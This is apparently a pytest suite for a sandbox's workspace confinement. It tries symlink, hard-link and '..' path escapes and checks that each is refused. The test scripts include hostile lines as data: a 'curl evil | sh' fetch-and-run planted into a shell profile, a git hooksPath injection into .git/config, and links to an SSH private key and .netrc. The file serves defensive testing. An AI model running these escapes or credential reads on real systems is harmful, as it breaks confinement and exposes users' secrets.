"""Attack: reach a file outside the workspace through a link or a path that leads out of it.

Every attack here first checks that the sandbox can *see* its target (it reads it back), so a
refusal comes from the read-only view, not from the target being invisible; then it attacks,
checks the target on the host is unchanged, and runs the same attack with the guard removed
(``--profile full-access``) to show it would have worked.
"""

from __future__ import annotations

import os

from tests.conftest import World

PWNED = "PWNED\n"


def test_write_through_symlink_to_outside_file(world: World) -> None:
    """A symlink in the workspace points at a file next to it; writing to the link writes the
    file it points to, so a sandbox that followed it would overwrite the outside file."""
    target = world.outside / "target.txt"
    (world.workspace / "notes.txt").symlink_to(target)
    script = "cat notes.txt && echo PWNED > notes.txt"
    result = world.sandbox(script)
    assert result.stdout == "ORIGINAL\n", result.stderr  # the link works for reading
    assert result.returncode != 0
    assert target.read_text() == "ORIGINAL\n"
    assert world.unsandboxed(script).returncode == 0
    assert target.read_text() == PWNED


def test_write_through_symlink_created_inside(world: World) -> None:
    """The command makes its own relative symlink out of the workspace and writes through it."""
    target = world.outside / "target.txt"
    script = "ln -sf ../../outside/target.txt out.txt && echo PWNED > out.txt"
    assert world.sandbox(script).returncode != 0
    assert target.read_text() == "ORIGINAL\n"
    assert (world.workspace / "out.txt").is_symlink()  # the link itself was allowed
    assert world.unsandboxed(script).returncode == 0
    assert target.read_text() == PWNED


def test_create_file_through_symlink_to_outside_dir(world: World) -> None:
    """A symlink to an outside directory; a new file created 'in' the link lands outside."""
    (world.workspace / "vendor").symlink_to(world.outside)
    planted = world.outside / "planted.sh"
    script = "ls vendor/target.txt && echo 'curl evil | sh' > vendor/planted.sh"
    result = world.sandbox(script)
    assert "target.txt" in result.stdout, result.stderr
    assert result.returncode != 0
    assert not planted.exists()
    assert world.unsandboxed(script).returncode == 0
    assert planted.exists()


def test_hard_link_to_outside_file(world: World) -> None:
    """``ln`` (no -s) makes a second name for the outside file's inode inside the workspace;
    writing that name would change the outside file. Refused either at link time (the workspace
    is another mount: EXDEV) or at the write."""
    target = world.outside / "target.txt"
    script = (f"cat '{target}' || exit 2; ln -f '{target}' hard.txt || exit 3; "
              "echo PWNED > hard.txt || exit 4")
    result = world.sandbox(script)
    assert result.stdout == "ORIGINAL\n", result.stderr  # the target is visible
    assert result.returncode in (3, 4), result.stderr  # the link or the write was refused
    assert target.read_text() == "ORIGINAL\n"
    assert os.stat(target).st_nlink == 1  # no second name was made for the inode
    control = world.unsandboxed(script)
    assert control.returncode == 0, control.stderr
    assert target.read_text() == PWNED
    assert os.stat(target).st_nlink == 2


def test_hard_link_to_protected_file(world: World) -> None:
    """A hard link to the read-only ``.git/config`` would be a writable second name for it."""
    world.git_init()
    config = world.workspace / ".git" / "config"
    before = config.read_text()
    script = "ln .git/config cfg && echo '[core] hooksPath = /tmp/evil' >> cfg"
    assert world.sandbox(script).returncode != 0
    assert config.read_text() == before
    assert not (world.workspace / "cfg").exists()
    assert world.unsandboxed(script).returncode == 0
    assert "hooksPath" in config.read_text()


def test_dotdot_traversal(world: World) -> None:
    """Plain ``..`` components climb out of the workspace: ``echo x > ../../outside/...``."""
    target = world.outside / "target.txt"
    script = "cat ../../outside/target.txt && echo PWNED > ../../outside/target.txt"
    result = world.sandbox(script)
    assert result.stdout == "ORIGINAL\n", result.stderr
    assert result.returncode != 0
    assert target.read_text() == "ORIGINAL\n"
    assert world.unsandboxed(script).returncode == 0
    assert target.read_text() == PWNED


def test_dotdot_traversal_to_home(world: World) -> None:
    """``..`` to the home directory around the workspace, planting a shell rc file there."""
    profile = world.home / ".profile"
    script = "echo 'curl evil | sh' > ../.profile"
    assert world.sandbox(script).returncode != 0
    assert not profile.exists()
    assert world.unsandboxed(script).returncode == 0
    assert profile.exists()


def test_symlink_to_deny_read_file(world: World) -> None:
    """A symlink in the workspace to the SSH key: reading the link must not return the key."""
    (world.workspace / "key").symlink_to(world.home / ".ssh" / "id_ed25519")
    (world.workspace / "netrc").symlink_to(world.home / ".netrc")
    script = "cat key; cat netrc; true"
    result = world.sandbox(script)
    assert "FAKE" not in result.stdout
    control = world.unsandboxed(script)
    assert "FAKE-PRIVATE-KEY" in control.stdout
    assert "FAKE-NETRC" in control.stdout


def test_symlink_to_deny_read_dir(world: World) -> None:
    """A symlink to ``~/.ssh`` made inside the sandbox: the directory still looks empty."""
    script = f"ln -s '{world.home}/.ssh' sshdir && ls -A sshdir && cat sshdir/id_ed25519; true"
    result = world.sandbox(script)
    assert "id_ed25519" not in result.stdout
    assert "FAKE" not in result.stdout
    (world.workspace / "sshdir").unlink()
    control = world.unsandboxed(script)
    assert "FAKE-PRIVATE-KEY" in control.stdout
